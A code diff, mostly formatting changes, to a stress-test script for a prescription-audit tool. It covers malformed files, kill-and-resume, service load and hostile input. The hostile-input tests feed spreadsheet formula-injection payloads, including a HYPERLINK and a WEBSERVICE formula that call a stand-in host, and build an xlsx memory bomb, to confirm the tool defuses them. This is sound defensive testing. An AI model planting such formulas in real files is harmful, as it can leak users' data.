@@ -60,6 +60,7 @@ class Check:
 
 # --------------------------------------------------------------------------- helpers
 
+
 def _journal_rows(path: Path) -> list[tuple[str, int, str]]:
     out = []
     with path.open(encoding="utf-8") as fh:
@@ -92,12 +93,17 @@ def _kill_group(proc: subprocess.Popen[Any]) -> None:
 
 # --------------------------------------------------------------------------- (b) malformed files
 
+
 def _stream_big_csv(path: Path, target_bytes: int) -> int:
     """Write about ``target_bytes`` of HIS lines without holding them in memory; returns the rows."""
     rng = random.Random(11)
     rows = 0
-    drugs = [("苯磺酸氨氯地平片", "5mg", "5", "mg", "qd"), ("盐酸二甲双胍片", "0.5g", "0.5", "g", "tid"),
-             ("阿托伐他汀钙片", "20mg", "20", "mg", "qn"), ("阿莫西林胶囊", "0.5g", "0.5", "g", "tid")]
+    drugs = [
+        ("苯磺酸氨氯地平片", "5mg", "5", "mg", "qd"),
+        ("盐酸二甲双胍片", "0.5g", "0.5", "g", "tid"),
+        ("阿托伐他汀钙片", "20mg", "20", "mg", "qn"),
+        ("阿莫西林胶囊", "0.5g", "0.5", "g", "tid"),
+    ]
     with path.open("w", encoding="utf-8", buffering=1 << 20) as fh:
         fh.write(HEADER)
         rx = 0
@@ -106,8 +112,10 @@ def _stream_big_csv(path: Path, target_bytes: int) -> int:
             for _ in range(10_000):
                 rx += 1
                 for drug, strength, dose, unit, freq in drugs[: rng.randint(1, 4)]:
-                    block.append(f"{rx:09d},P{rx % 9973},{rng.randint(18, 90)},男,\"原发性高血压(I10)\",{drug},"
-                                 f"{strength},{dose},{unit},{freq},口服,28,王医生,全科\n")
+                    block.append(
+                        f'{rx:09d},P{rx % 9973},{rng.randint(18, 90)},男,"原发性高血压(I10)",{drug},'
+                        f"{strength},{dose},{unit},{freq},口服,28,王医生,全科\n"
+                    )
                     rows += 1
             fh.write("".join(block))
     return rows
@@ -151,9 +159,17 @@ def check_files(work: Path, lines: int, big_gb: float) -> list[Check]:
         lines_seen = sorted(r[1] for r in rows)
         complete = len(lines_seen) == expect_rows and len(set(lines_seen)) == expect_rows
         errors = sum(r[2] == "error" for r in rows)
-        out.append(Check("files", name, what, f"{len(rows):,}/{expect_rows:,} rows with a status, {errors:,} error "
-                         f"rows, {s.rows / (time.perf_counter() - t):,.0f} rows/s", complete,
-                         {"rows": len(rows), "errors": errors}))
+        out.append(
+            Check(
+                "files",
+                name,
+                what,
+                f"{len(rows):,}/{expect_rows:,} rows with a status, {errors:,} error "
+                f"rows, {s.rows / (time.perf_counter() - t):,.0f} rows/s",
+                complete,
+                {"rows": len(rows), "errors": errors},
+            )
+        )
 
     # GBK with corrupt bytes at three places, one far past the sniffed 64 KiB
     gbk = bytearray(text.decode("utf-8").encode("gb18030"))
@@ -189,17 +205,27 @@ def check_files(work: Path, lines: int, big_gb: float) -> list[Check]:
     p.write_bytes(b"\n".join([lines_[0], *bad]) + b"\n")
     audited(p, n_rows, "absurd values, short/long rows, empty ids", f"{n_rows:,} lines")
     # whole-file problems: refused at once with the file named, or an empty report
-    for name, data in (("UTF-16 export", (HEADER + "1,2\n").encode("utf-16")), ("empty file (0 bytes)", b""),
-                       ("header only", HEADER.encode()), ("renamed 药品名称 column",
-                                                           text[:2000].replace("药品名称".encode(), b"drugname"))):
+    for name, data in (
+        ("UTF-16 export", (HEADER + "1,2\n").encode("utf-16")),
+        ("empty file (0 bytes)", b""),
+        ("header only", HEADER.encode()),
+        ("renamed 药品名称 column", text[:2000].replace("药品名称".encode(), b"drugname")),
+    ):
         p = work / "whole.csv"
         p.write_bytes(data)
         try:
             s = run_batch(p, work / "out.jsonl", "jsonl", options=BatchOptions(workers=1))
             out.append(Check("files", name, "-", f"empty report ({s.rows} rows)", s.rows == 0))
         except InputError as exc:
-            out.append(Check("files", name, "-", f"clear error: {str(exc).split(': ', 1)[-1][:80]}",
-                             "whole.csv" in str(exc)))
+            out.append(
+                Check(
+                    "files",
+                    name,
+                    "-",
+                    f"clear error: {str(exc).split(': ', 1)[-1][:80]}",
+                    "whole.csv" in str(exc),
+                )
+            )
     # truncated Excel
     import openpyxl
 
@@ -216,8 +242,15 @@ def check_files(work: Path, lines: int, big_gb: float) -> list[Check]:
         run_batch(cut, work / "out.jsonl", "jsonl", options=BatchOptions(workers=1))
         out.append(Check("files", "Excel cut in half", "20,000 rows", "read without error?!", False))
     except InputError as exc:
-        out.append(Check("files", "Excel cut in half", "20,000 rows",
-                         f"clear error in {time.perf_counter() - t:.2f}s: {str(exc).split(': ', 1)[-1][:60]}", True))
+        out.append(
+            Check(
+                "files",
+                "Excel cut in half",
+                "20,000 rows",
+                f"clear error in {time.perf_counter() - t:.2f}s: {str(exc).split(': ', 1)[-1][:60]}",
+                True,
+            )
+        )
     # bounded memory: stream a big file through the reader (the main process of a batch run)
     if big_gb > 0:
         big = work / "big.csv"
@@ -227,24 +260,33 @@ def check_files(work: Path, lines: int, big_gb: float) -> list[Check]:
         small = work / "small.csv"
         _stream_big_csv(small, 20_000_000)
         probe = [sys.executable, "-c", _READ_PROBE]
-        u_small = subprocess.run([*probe, str(small)], capture_output=True, text=True, check=True, cwd=ROOT,
-                                 timeout=3600).stdout.split()
-        u_big = subprocess.run([*probe, str(big)], capture_output=True, text=True, check=True, cwd=ROOT,
-                               timeout=3600).stdout.split()
+        u_small = subprocess.run(
+            [*probe, str(small)], capture_output=True, text=True, check=True, cwd=ROOT, timeout=3600
+        ).stdout.split()
+        u_big = subprocess.run(
+            [*probe, str(big)], capture_output=True, text=True, check=True, cwd=ROOT, timeout=3600
+        ).stdout.split()
         rss_small, rss_big = int(u_small[2]) / 1024, int(u_big[2]) / 1024
         base = int(u_big[4]) / 1024
         ok = int(u_big[1]) == rows and rss_big - rss_small < 64
-        out.append(Check("files", "big file streamed (reader + grouping, main process)",
-                         f"{big.stat().st_size / 1e9:.2f} GB, {rows:,} lines",
-                         f"peak RSS while reading {rss_big:.0f} MiB vs {rss_small:.0f} MiB for a 20 MB file "
-                         f"({base:.0f} MiB after imports); all {int(u_big[1]):,} rows read in {float(u_big[3]):.0f}s "
-                         f"(generated in {gen_s:.0f}s)", ok,
-                         {"peak_rss_mib": rss_big, "peak_rss_small_mib": rss_small, "rss_after_imports_mib": base}))
+        out.append(
+            Check(
+                "files",
+                "big file streamed (reader + grouping, main process)",
+                f"{big.stat().st_size / 1e9:.2f} GB, {rows:,} lines",
+                f"peak RSS while reading {rss_big:.0f} MiB vs {rss_small:.0f} MiB for a 20 MB file "
+                f"({base:.0f} MiB after imports); all {int(u_big[1]):,} rows read in {float(u_big[3]):.0f}s "
+                f"(generated in {gen_s:.0f}s)",
+                ok,
+                {"peak_rss_mib": rss_big, "peak_rss_small_mib": rss_small, "rss_after_imports_mib": base},
+            )
+        )
         big.unlink()
     return out
 
 
 # --------------------------------------------------------------------------- (c) kill and resume
+
 
 def kill_and_resume(work: Path, lines: int, kill_after: float, workers: int = 2) -> Check:
     """Run ``clinic audit`` on ``lines`` lines, SIGKILL it mid-run, resume, compare with an uninterrupted run."""
@@ -258,14 +300,22 @@ def kill_and_resume(work: Path, lines: int, kill_after: float, workers: int = 2)
     t = time.perf_counter()
     subprocess.run([*cmd, "-o", str(ref)], check=True, cwd=ROOT, capture_output=True, timeout=7200)
     ref_s = time.perf_counter() - t
-    proc = subprocess.Popen([*cmd, "-o", str(out)], cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
-                            start_new_session=True)
+    proc = subprocess.Popen(
+        [*cmd, "-o", str(out)],
+        cwd=ROOT,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+        start_new_session=True,
+    )
     t_start = time.perf_counter()
     if kill_after > 0:
         time.sleep(kill_after)
     else:  # kill once about a tenth of the cases are written: surely mid-run, on a fast or a slow machine
-        while (proc.poll() is None and time.perf_counter() - t_start < 600
-               and (not out.exists() or out.stat().st_size < ref.stat().st_size // 10)):
+        while (
+            proc.poll() is None
+            and time.perf_counter() - t_start < 600
+            and (not out.exists() or out.stat().st_size < ref.stat().st_size // 10)
+        ):
             time.sleep(0.05)
     kill_after = time.perf_counter() - t_start
     alive = proc.poll() is None
@@ -274,32 +324,68 @@ def kill_and_resume(work: Path, lines: int, kill_after: float, workers: int = 2)
     torn = bool(partial) and not partial.endswith(b"\n")
     done_before = partial.count(b"\n")
     t = time.perf_counter()
-    subprocess.run([*cmd, "-o", str(out), "--resume"], check=True, cwd=ROOT, capture_output=True, timeout=7200)
+    subprocess.run(
+        [*cmd, "-o", str(out), "--resume"], check=True, cwd=ROOT, capture_output=True, timeout=7200
+    )
     resume_s = time.perf_counter() - t
     a, b = _journal_rows(ref), _journal_rows(out)
     identical = ref.read_bytes() == out.read_bytes()
     lines_out = [r[1] for r in b]
     no_dupes = len(lines_out) == len(set(lines_out))
     ok = alive and identical and no_dupes and len(b) == lines
-    return Check("kill", "SIGKILL mid-run, then --resume", f"{lines:,} lines, workers={workers}",
-                 f"killed after {kill_after:.1f}s with {done_before:,} cases written (torn last line: {torn}); "
-                 f"resumed in {resume_s:.0f}s; {len(b):,}/{lines:,} rows, duplicates: {len(lines_out) - len(set(lines_out))}"
-                 f", byte-identical to the uninterrupted run ({ref_s:.0f}s): {identical}", ok,
-                 {"cases_before_kill": done_before, "rows": len(b), "identical": identical,
-                  "uninterrupted_s": ref_s, "resume_s": resume_s, "ref_rows": len(a)})
+    return Check(
+        "kill",
+        "SIGKILL mid-run, then --resume",
+        f"{lines:,} lines, workers={workers}",
+        f"killed after {kill_after:.1f}s with {done_before:,} cases written (torn last line: {torn}); "
+        f"resumed in {resume_s:.0f}s; {len(b):,}/{lines:,} rows, duplicates: {len(lines_out) - len(set(lines_out))}"
+        f", byte-identical to the uninterrupted run ({ref_s:.0f}s): {identical}",
+        ok,
+        {
+            "cases_before_kill": done_before,
+            "rows": len(b),
+            "identical": identical,
+            "uninterrupted_s": ref_s,
+            "resume_s": resume_s,
+            "ref_rows": len(a),
+        },
+    )
 
 
 # --------------------------------------------------------------------------- (d) service
 
-CASE_BLOCK = {"id": "X", "patient": {"age": 72, "sex": "F", "allergies": ["青霉素"],
-                                     "diagnoses": [{"name": "急性支气管炎", "icd10": "J20.9"},
-                                                   {"name": "2型糖尿病", "icd10": "E11.9"}], "labs": {"egfr": 25}},
-              "prescription": {"items": [
-                  {"drug": "阿莫西林胶囊", "dose": 0.5, "unit": "g", "frequency": "tid", "route": "口服", "days": 5},
-                  {"drug": "二甲双胍片", "dose": 0.5, "unit": "g", "frequency": "tid", "route": "口服", "days": 28}]}}
-CASE_OK = {"id": "Y", "patient": {"age": 50, "sex": "M", "diagnoses": [{"name": "原发性高血压", "icd10": "I10"}]},
-           "prescription": {"items": [{"drug": "缬沙坦胶囊", "dose": 80, "unit": "mg", "frequency": "qd",
-                                       "route": "口服", "days": 28}]}}
+CASE_BLOCK = {
+    "id": "X",
+    "patient": {
+        "age": 72,
+        "sex": "F",
+        "allergies": ["青霉素"],
+        "diagnoses": [{"name": "急性支气管炎", "icd10": "J20.9"}, {"name": "2型糖尿病", "icd10": "E11.9"}],
+        "labs": {"egfr": 25},
+    },
+    "prescription": {
+        "items": [
+            {
+                "drug": "阿莫西林胶囊",
+                "dose": 0.5,
+                "unit": "g",
+                "frequency": "tid",
+                "route": "口服",
+                "days": 5,
+            },
+            {"drug": "二甲双胍片", "dose": 0.5, "unit": "g", "frequency": "tid", "route": "口服", "days": 28},
+        ]
+    },
+}
+CASE_OK = {
+    "id": "Y",
+    "patient": {"age": 50, "sex": "M", "diagnoses": [{"name": "原发性高血压", "icd10": "I10"}]},
+    "prescription": {
+        "items": [
+            {"drug": "缬沙坦胶囊", "dose": 80, "unit": "mg", "frequency": "qd", "route": "口服", "days": 28}
+        ]
+    },
+}
 
 
 class Server:
@@ -314,9 +400,22 @@ class Server:
         import httpx
 
         t = time.perf_counter()
-        self.proc = subprocess.Popen([*CLINIC, "serve", "--host", "127.0.0.1", "--port", str(self.port),
-                                      "--db", f"sqlite:///{self.db}"], cwd=ROOT, stdout=subprocess.DEVNULL,
-                                     stderr=subprocess.DEVNULL, start_new_session=True)
+        self.proc = subprocess.Popen(
+            [
+                *CLINIC,
+                "serve",
+                "--host",
+                "127.0.0.1",
+                "--port",
+                str(self.port),
+                "--db",
+                f"sqlite:///{self.db}",
+            ],
+            cwd=ROOT,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+            start_new_session=True,
+        )
         while time.perf_counter() - t < timeout:
             if self.proc.poll() is not None:
                 raise RuntimeError("clinic serve exited at start-up")
@@ -336,8 +435,13 @@ class Server:
         return _rss_kib(self.proc.pid) if self.proc else 0
 
 
-def _load(url: str, seconds: float, connections: int, max_requests: int,
-          body: Callable[[int], tuple[str, dict[str, Any]]]) -> dict[str, Any]:
+def _load(
+    url: str,
+    seconds: float,
+    connections: int,
+    max_requests: int,
+    body: Callable[[int], tuple[str, dict[str, Any]]],
+) -> dict[str, Any]:
     """``connections`` threads, each with one keep-alive connection, until the time or request budget ends."""
     import httpx
 
@@ -398,11 +502,18 @@ def check_service(work: Path, seconds: float, connections: int, restart_seconds:
         s = _load(server.url, seconds, connections, 2_000_000, audit_body)
         rss1 = server.rss_kib
         total = s["ok"] + s["errors"]
-        out.append(Check("service", f"{seconds:.0f} s load, {connections} connections, POST /v1/audit",
-                         f"{total:,} requests", f"{s['errors']} errors ({s['error_kinds']}); {total / seconds:,.0f} req/s;"
-                         f" p50 {s['p50_ms']:.0f} ms p99 {s['p99_ms']:.0f} ms; server RSS {rss0 / 1024:.0f} → "
-                         f"{rss1 / 1024:.0f} MiB", s["errors"] == 0 and rss1 - rss0 < 200 * 1024,
-                         {**s, "rss_before_kib": rss0, "rss_after_kib": rss1, "startup_s": start_s}))
+        out.append(
+            Check(
+                "service",
+                f"{seconds:.0f} s load, {connections} connections, POST /v1/audit",
+                f"{total:,} requests",
+                f"{s['errors']} errors ({s['error_kinds']}); {total / seconds:,.0f} req/s;"
+                f" p50 {s['p50_ms']:.0f} ms p99 {s['p99_ms']:.0f} ms; server RSS {rss0 / 1024:.0f} → "
+                f"{rss1 / 1024:.0f} MiB",
+                s["errors"] == 0 and rss1 - rss0 < 200 * 1024,
+                {**s, "rss_before_kib": rss0, "rss_after_kib": rss1, "startup_s": start_s},
+            )
+        )
         # decisions while the server is killed and started again; clients retry, nothing acknowledged is lost
         acked: list[tuple[str, str]] = []
         retries = {"n": 0}
@@ -419,8 +530,10 @@ def check_service(work: Path, seconds: float, connections: int, restart_seconds:
                         try:
                             r = c.post("/v1/audit", json={**CASE_BLOCK, "id": f"R-{k}-{i}"})
                             audit_id = r.headers["x-audit-id"]
-                            d = c.post(f"/v1/audits/{audit_id}/decisions",
-                                       json={"decision": "return", "pharmacist": f"药师{k}", "reason": "剂量需调整"})
+                            d = c.post(
+                                f"/v1/audits/{audit_id}/decisions",
+                                json={"decision": "return", "pharmacist": f"药师{k}", "reason": "剂量需调整"},
+                            )
                             with lock:
                                 if d.status_code == 201:
                                     acked.append((audit_id, str(d.json().get("id", ""))))
@@ -445,11 +558,17 @@ def check_service(work: Path, seconds: float, connections: int, restart_seconds:
             for audit_id, decision_id in acked:
                 got = c.get(f"/v1/audits/{audit_id}/decisions").json()["decisions"]
                 missing += not any(str(d.get("id", "")) == decision_id for d in got)
-        out.append(Check("service", "SIGKILL + restart mid-load, clients retry; decisions read back",
-                         f"{len(acked):,} decisions acknowledged",
-                         f"{missing} lost; {rejected['n']} refused; {retries['n']} client retries while down; "
-                         f"restart took {restart_s:.1f}s", missing == 0 and rejected["n"] == 0 and len(acked) > 0,
-                         {"acked": len(acked), "lost": missing, "rejected": rejected["n"], "retries": retries["n"]}))
+        out.append(
+            Check(
+                "service",
+                "SIGKILL + restart mid-load, clients retry; decisions read back",
+                f"{len(acked):,} decisions acknowledged",
+                f"{missing} lost; {rejected['n']} refused; {retries['n']} client retries while down; "
+                f"restart took {restart_s:.1f}s",
+                missing == 0 and rejected["n"] == 0 and len(acked) > 0,
+                {"acked": len(acked), "lost": missing, "rejected": rejected["n"], "retries": retries["n"]},
+            )
+        )
     finally:
         server.kill()
     return out
@@ -521,13 +640,23 @@ def check_audio(work: Path, hours: float, timeout: float = 900) -> list[Check]:
     cases.append((f"{hours:g} h of silence", p, f"{p.stat().st_size / 1e6:.0f} MB"))
     p = work / "noise_long.wav"
     _write_wav(p, _blocks(hours * 3600, 16000, "noise"), 16000)
-    cases.append((f"{hours:g} h of low noise (no speech: passes the silence guard, goes to VAD)", p,
-                  f"{p.stat().st_size / 1e6:.0f} MB"))
+    cases.append(
+        (
+            f"{hours:g} h of low noise (no speech: passes the silence guard, goes to VAD)",
+            p,
+            f"{p.stat().st_size / 1e6:.0f} MB",
+        )
+    )
     for name, path, size in cases:
         t = time.perf_counter()
         try:
-            r = subprocess.run([sys.executable, "-c", _AUDIO_PROBE, str(path)], capture_output=True, text=True,
-                               cwd=ROOT, timeout=timeout)
+            r = subprocess.run(
+                [sys.executable, "-c", _AUDIO_PROBE, str(path)],
+                capture_output=True,
+                text=True,
+                cwd=ROOT,
+                timeout=timeout,
+            )
             wall = time.perf_counter() - t
             children_rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
             last = (r.stdout.strip().splitlines() or ["{}"])[-1]
@@ -536,12 +665,28 @@ def check_audio(work: Path, hours: float, timeout: float = 900) -> list[Check]:
             out.append(Check("audio", name, size, f"HUNG: no answer in {timeout:.0f}s", False))
             continue
         if res.get("kind") == "error":
-            out.append(Check("audio", name, size, f"clear error in {wall:.1f}s: {res['message'].split(': ', 1)[-1][:70]}",
-                             True, res))
+            out.append(
+                Check(
+                    "audio",
+                    name,
+                    size,
+                    f"clear error in {wall:.1f}s: {res['message'].split(': ', 1)[-1][:70]}",
+                    True,
+                    res,
+                )
+            )
         elif res.get("kind") == "result":
-            out.append(Check("audio", name, size, f"result in {wall:.1f}s: {res['text_chars']} chars, warnings "
-                             f"{res['warnings']}; largest child process so far {children_rss:.0f} MiB RSS",
-                             res["text_chars"] == 0 or "tone" in name, res))
+            out.append(
+                Check(
+                    "audio",
+                    name,
+                    size,
+                    f"result in {wall:.1f}s: {res['text_chars']} chars, warnings "
+                    f"{res['warnings']}; largest child process so far {children_rss:.0f} MiB RSS",
+                    res["text_chars"] == 0 or "tone" in name,
+                    res,
+                )
+            )
         else:
             out.append(Check("audio", name, size, f"crash: {res.get('message', '')[:100]}", False))
         path.unlink(missing_ok=True)
@@ -550,13 +695,49 @@ def check_audio(work: Path, hours: float, timeout: float = 900) -> list[Check]:
 
 # --------------------------------------------------------------------------- (e) hostile input (issue 16)
 
-_HOSTILE_HEADER = ["处方号", "患者", "年龄", "性别", "诊断", "药品名称", "规格", "单次剂量", "剂量单位", "频次", "给药途径",
-                   "天数", "医生", "科室"]
+_HOSTILE_HEADER = [
+    "处方号",
+    "患者",
+    "年龄",
+    "性别",
+    "诊断",
+    "药品名称",
+    "规格",
+    "单次剂量",
+    "剂量单位",
+    "频次",
+    "给药途径",
+    "天数",
+    "医生",
+    "科室",
+]
 
 
-def _hrow(rx: str, drug: str = "苯磺酸氨氯地平片", dose: str = "5", unit: str = "mg", days: str = "28",
-          doctor: str = "王医生", dept: str = "全科") -> list[str]:
-    return [rx, "P1", "68", "男", "原发性高血压(I10)", drug, "5mg", dose, unit, "qd", "口服", days, doctor, dept]
+def _hrow(
+    rx: str,
+    drug: str = "苯磺酸氨氯地平片",
+    dose: str = "5",
+    unit: str = "mg",
+    days: str = "28",
+    doctor: str = "王医生",
+    dept: str = "全科",
+) -> list[str]:
+    return [
+        rx,
+        "P1",
+        "68",
+        "男",
+        "原发性高血压(I10)",
+        drug,
+        "5mg",
+        dose,
+        unit,
+        "qd",
+        "口服",
+        days,
+        doctor,
+        dept,
+    ]
 
 
 def _write_hostile_csv(path: Path, rows: list[list[str]]) -> Path:
@@ -576,6 +757,7 @@ def _formula_cells(values: list[Any]) -> list[Any]:
             return False
         except ValueError:
             return True
+
     return [v for v in values if live(v)]
 
 
@@ -590,9 +772,13 @@ def check_hostile(work: Path) -> list[Check]:
         return [json.loads(x) for x in path.read_text(encoding="utf-8").splitlines()]
 
     # formula injection in every report cell
-    src = _write_hostile_csv(work / "formula.csv", [
-        _hrow("=1+1", drug='=HYPERLINK("http://x/?"&A1,"click")', doctor="@SUM(A1)", dept="+cmd"),
-        _hrow("-2+3", drug="代文", dose="abc", doctor="=WEBSERVICE(\"http://x\")", dept="-1+1")])
+    src = _write_hostile_csv(
+        work / "formula.csv",
+        [
+            _hrow("=1+1", drug='=HYPERLINK("http://x/?"&A1,"click")', doctor="@SUM(A1)", dept="+cmd"),
+            _hrow("-2+3", drug="代文", dose="abc", doctor='=WEBSERVICE("http://x")', dept="-1+1"),
+        ],
+    )
     run_batch(src, work / "f.csv", "csv", options=opts)
     with (work / "f.csv").open(encoding="utf-8-sig", newline="") as fh:
         csv_cells = [c for r in csv.reader(fh) for c in r]
@@ -601,10 +787,20 @@ def check_hostile(work: Path) -> list[Check]:
 
     wb = openpyxl.load_workbook(work / "f.xlsx")
     xl = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
-    live = _formula_cells(csv_cells) + _formula_cells([c.value for c in xl]) + [c for c in xl if c.data_type == "f"]
-    out.append(Check("hostile", "formula-leading cells (= + - @) in 处方号, drug, doctor, department",
-                     f"CSV + Excel, {len(wb.worksheets)} sheets, {len(xl)} cells",
-                     f"{len(live)} live formula cells; written as text with a leading '", not live))
+    live = (
+        _formula_cells(csv_cells)
+        + _formula_cells([c.value for c in xl])
+        + [c for c in xl if c.data_type == "f"]
+    )
+    out.append(
+        Check(
+            "hostile",
+            "formula-leading cells (= + - @) in 处方号, drug, doctor, department",
+            f"CSV + Excel, {len(wb.worksheets)} sheets, {len(xl)} cells",
+            f"{len(live)} live formula cells; written as text with a leading '",
+            not live,
+        )
+    )
     # xlsx bomb: a cell at XFD1048576, in a child process capped at 2 GiB of address space
     wbb = openpyxl.Workbook()
     ws = wbb.active
@@ -613,17 +809,25 @@ def check_hostile(work: Path) -> list[Check]:
     ws["XFD1048576"] = "x"
     bomb = work / "bomb.xlsx"
     wbb.save(bomb)
-    code = ("import resource; resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30));"
-            "from toolkit.batch import run_batch, BatchOptions;"
-            f"run_batch({str(bomb)!r}, {str(work / 'bomb.jsonl')!r}, 'jsonl', options=BatchOptions(workers=1))")
+    code = (
+        "import resource; resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30));"
+        "from toolkit.batch import run_batch, BatchOptions;"
+        f"run_batch({str(bomb)!r}, {str(work / 'bomb.jsonl')!r}, 'jsonl', options=BatchOptions(workers=1))"
+    )
     t = time.perf_counter()
     proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, timeout=600)
     lines = journal(work / "bomb.jsonl") if proc.returncode == 0 else []
     ok = proc.returncode == 0 and len(lines) == 1 and lines[0]["status"] == "error"
-    out.append(Check("hostile", "xlsx with one cell at XFD1048576 (2 GiB address-space cap)",
-                     f"{bomb.stat().st_size / 1024:.1f} KB",
-                     f"exit {proc.returncode} in {time.perf_counter() - t:.1f}s; "
-                     + (f"error row: {lines[0]['error'][:90]}" if ok else proc.stderr[-120:]), ok))
+    out.append(
+        Check(
+            "hostile",
+            "xlsx with one cell at XFD1048576 (2 GiB address-space cap)",
+            f"{bomb.stat().st_size / 1024:.1f} KB",
+            f"exit {proc.returncode} in {time.perf_counter() - t:.1f}s; "
+            + (f"error row: {lines[0]['error'][:90]}" if ok else proc.stderr[-120:]),
+            ok,
+        )
+    )
     # a big workbook: streamed (openpyxl read-only), memory bounded; the same sheet loaded whole for contrast
     base = work / "xl_base.csv"
     generate(base, 100_000)
@@ -634,23 +838,36 @@ def check_hostile(work: Path) -> list[Check]:
             wsx.append(r)
     big_xlsx = work / "big.xlsx"
     wbx.save(big_xlsx)
-    probe = ("import sys, time; from pathlib import Path; import toolkit.batch.readers as R\n"
-             "kib = lambda k: next(int(x.split()[1]) for x in Path('/proc/self/status').read_text().splitlines()"
-             " if x.startswith(k))\n"
-             "if sys.argv[2] == 'whole': R.XLSX_IN_MEMORY_BYTES = R._IN_MEMORY_CELLS = 1 << 40\n"
-             "Path('/proc/self/clear_refs').write_text('5'); t = time.perf_counter()\n"
-             "n = sum(len(u.payload[2]) if u.kind == 'rows' else 1 for u in R.iter_units(sys.argv[1]))\n"
-             "print(n, kib('VmHWM:') // 1024, round(time.perf_counter() - t, 1))\n")
+    probe = (
+        "import sys, time; from pathlib import Path; import toolkit.batch.readers as R\n"
+        "kib = lambda k: next(int(x.split()[1]) for x in Path('/proc/self/status').read_text().splitlines()"
+        " if x.startswith(k))\n"
+        "if sys.argv[2] == 'whole': R.XLSX_IN_MEMORY_BYTES = R._IN_MEMORY_CELLS = 1 << 40\n"
+        "Path('/proc/self/clear_refs').write_text('5'); t = time.perf_counter()\n"
+        "n = sum(len(u.payload[2]) if u.kind == 'rows' else 1 for u in R.iter_units(sys.argv[1]))\n"
+        "print(n, kib('VmHWM:') // 1024, round(time.perf_counter() - t, 1))\n"
+    )
     got = {}
     for how in ("stream", "whole"):
-        res = subprocess.run([sys.executable, "-c", probe, str(big_xlsx), how], capture_output=True, text=True,
-                             cwd=ROOT, timeout=1800)
+        res = subprocess.run(
+            [sys.executable, "-c", probe, str(big_xlsx), how],
+            capture_output=True,
+            text=True,
+            cwd=ROOT,
+            timeout=1800,
+        )
         got[how] = res.stdout.split() if res.returncode == 0 else ["0", "0", "0"]
     ok = int(got["stream"][0]) == 100_000 and int(got["stream"][1]) < int(got["whole"][1])
-    out.append(Check("hostile", "xlsx of 100,000 lines read as a stream (sheet XML over 16 MB)",
-                     f"{big_xlsx.stat().st_size / 1e6:.1f} MB",
-                     f"{got['stream'][0]} rows in {got['stream'][2]}s, peak RSS {got['stream'][1]} MiB; loaded whole "
-                     f"(calamine): {got['whole'][2]}s, {got['whole'][1]} MiB", ok))
+    out.append(
+        Check(
+            "hostile",
+            "xlsx of 100,000 lines read as a stream (sheet XML over 16 MB)",
+            f"{big_xlsx.stat().st_size / 1e6:.1f} MB",
+            f"{got['stream'][0]} rows in {got['stream'][2]}s, peak RSS {got['stream'][1]} MiB; loaded whole "
+            f"(calamine): {got['whole'][2]}s, {got['whole'][1]} MiB",
+            ok,
+        )
+    )
     # 20,000 rows under one 处方号: one error row naming the limit, the batch goes on
     rows = [_hrow("0001")] + [_hrow("9999", drug="阿司匹林肠溶片", dose="100")] * 20_000 + [_hrow("0002")]
     src = _write_hostile_csv(work / "one_id.csv", rows)
@@ -658,59 +875,164 @@ def check_hostile(work: Path) -> list[Check]:
     s = run_batch(src, work / "one_id.jsonl", "jsonl", options=opts)
     lines = journal(work / "one_id.jsonl")
     ok = [c["status"] for c in lines] == ["ok", "error", "ok"] and "limit of 100" in (lines[1]["error"] or "")
-    out.append(Check("hostile", "20,000 rows sharing one 处方号", f"{src.stat().st_size / 1e6:.1f} MB",
-                     f"{s.rows:,} rows with a status in {time.perf_counter() - t:.1f}s; that case: "
-                     f"{(lines[1]['error'] or '')[:70] if len(lines) > 1 else '?'}", ok))
+    out.append(
+        Check(
+            "hostile",
+            "20,000 rows sharing one 处方号",
+            f"{src.stat().st_size / 1e6:.1f} MB",
+            f"{s.rows:,} rows with a status in {time.perf_counter() - t:.1f}s; that case: "
+            f"{(lines[1]['error'] or '')[:70] if len(lines) > 1 else '?'}",
+            ok,
+        )
+    )
     # lines the engine could not check, and a prescription whose only line is unreadable
-    src = _write_hostile_csv(work / "unchecked.csv", [
-        _hrow("0001", drug="某某未知药片"), _hrow("0002", dose="-5"), _hrow("0003", dose="0"), _hrow("0004", days="0"),
-        _hrow("0005", unit="kg"), _hrow("0006", dose="abc"), _hrow("0007")])
+    src = _write_hostile_csv(
+        work / "unchecked.csv",
+        [
+            _hrow("0001", drug="某某未知药片"),
+            _hrow("0002", dose="-5"),
+            _hrow("0003", dose="0"),
+            _hrow("0004", days="0"),
+            _hrow("0005", unit="kg"),
+            _hrow("0006", dose="abc"),
+            _hrow("0007"),
+        ],
+    )
     s = run_batch(src, work / "unchecked.html", "html", options=opts)
     html = (work / "unchecked.html").read_text(encoding="utf-8")
     ok = s.cases_needs_review == 5 and s.cases_error == 1 and s.cases_ok == 1 and "需人工审核 5 张" in html
-    out.append(Check("hostile", "drug not in the KB, dose −5 / 0, days 0, unit kg, unreadable only line",
-                     "7 prescriptions", f"ok {s.cases_ok}, needs_review {s.cases_needs_review}, error "
-                     f"{s.cases_error}; HTML says 需人工审核 {s.cases_needs_review} 张, 无法审核 {s.cases_error} 张", ok))
+    out.append(
+        Check(
+            "hostile",
+            "drug not in the KB, dose −5 / 0, days 0, unit kg, unreadable only line",
+            "7 prescriptions",
+            f"ok {s.cases_ok}, needs_review {s.cases_needs_review}, error "
+            f"{s.cases_error}; HTML says 需人工审核 {s.cases_needs_review} 张, 无法审核 {s.cases_error} 张",
+            ok,
+        )
+    )
     # decimal comma and a reappearing 处方号
-    src = _write_hostile_csv(work / "misread.csv", [
-        _hrow("0001", drug="华法林钠片", dose="2,5"), _hrow("0002", drug="华法林钠片", dose="2.5"), _hrow("0003"),
-        _hrow("0002", drug="阿司匹林肠溶片", dose="100")])
+    src = _write_hostile_csv(
+        work / "misread.csv",
+        [
+            _hrow("0001", drug="华法林钠片", dose="2,5"),
+            _hrow("0002", drug="华法林钠片", dose="2.5"),
+            _hrow("0003"),
+            _hrow("0002", drug="阿司匹林肠溶片", dose="100"),
+        ],
+    )
     run_batch(src, work / "misread.jsonl", "jsonl", options=opts)
     lines = journal(work / "misread.jsonl")
     comma, again = lines[0], lines[3]
